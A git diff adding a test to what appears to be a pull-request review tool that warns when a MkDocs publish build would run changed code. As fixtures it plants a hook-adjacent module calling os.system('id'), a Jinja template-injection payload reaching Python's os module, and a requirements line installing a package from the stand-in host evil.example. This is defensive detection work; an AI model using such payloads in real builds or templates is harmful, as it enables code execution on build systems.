@@ -62,3 +62,38 @@ def test_a_workflow_line_says_what_triggers_it_and_where_it_runs(pub: Path) -> N
         "on pull&#95;request&#95;target, workflow&#95;dispatch; **runs on a self-hosted runner**), "
         "`.github/workflows/plain.yml` (added; on push). Read them before approving a run."
     )
+
+
+def test_code_the_publish_build_runs_beyond_hook_files_is_named(pub: Path) -> None:  # noqa: F811
+    """What the publish build runs without mkdocs.yml naming it: a module beside a hook (MkDocs
+    puts the hook's folder on sys.path), a template in theme.custom_dir (Jinja, unsandboxed, so a
+    template can run Python) and requirements-site.txt (the packages the publish workflow installs)."""
+    mkdocs = pub / "mkdocs.yml"
+    mkdocs.write_text(
+        mkdocs.read_text() + "hooks:\n  - hooks/publish.py\ntheme:\n  name: mkdocs\n  custom_dir: overrides\n"
+    )
+    (pub / "hooks").mkdir()
+    (pub / "hooks" / "publish.py").write_text("import helper  # noqa\n")
+    (pub / "hooks" / "helper.py").write_text("X = 1\n")
+    (pub / "overrides").mkdir()
+    (pub / "overrides" / "main.html").write_text('{% extends "base.html" %}\n')
+    (pub / "requirements-site.txt").write_text("mkdocs==1.6.1\n")
+    git(pub, "add", "-A")
+    git(pub, "commit", "-qm", "a hook, a theme, a toolchain")
+    git(pub, "checkout", "-qb", "pr")
+    (pub / "hooks" / "helper.py").write_text("import os\n\nos.system('id')\n")
+    (pub / "overrides" / "main.html").write_text("{{ self.__init__.__globals__.__builtins__.__import__('os') }}\n")
+    (pub / "requirements-site.txt").write_text("mkdocs==1.6.1\nevil @ git+https://evil.example/x.git\n")
+    git(pub, "commit", "-qam", "code in the build")
+    code, out, _ = cli("review", "--base", "main", "--head", "pr", "--repo", str(pub))
+    assert code == 0
+    assert out.splitlines()[1:4] == [
+        "> **⚠ `hooks/helper.py` (changed):** beside a hook mkdocs.yml names, which can import it: code the "
+        "publish build runs.",
+        "> **⚠ `overrides/main.html` (changed):** in theme.custom_dir: MkDocs renders its templates with Jinja, "
+        "unsandboxed: code the publish build runs.",
+        "> **⚠ `requirements-site.txt` (changed):** the packages the publish workflow installs: code the publish "
+        "build runs.",
+    ]
+    assert "No run, claim" not in out and "****" not in out
+    assert "Runs, claims, grids, receipts and problems are as they were: the change is in the files named above." in out
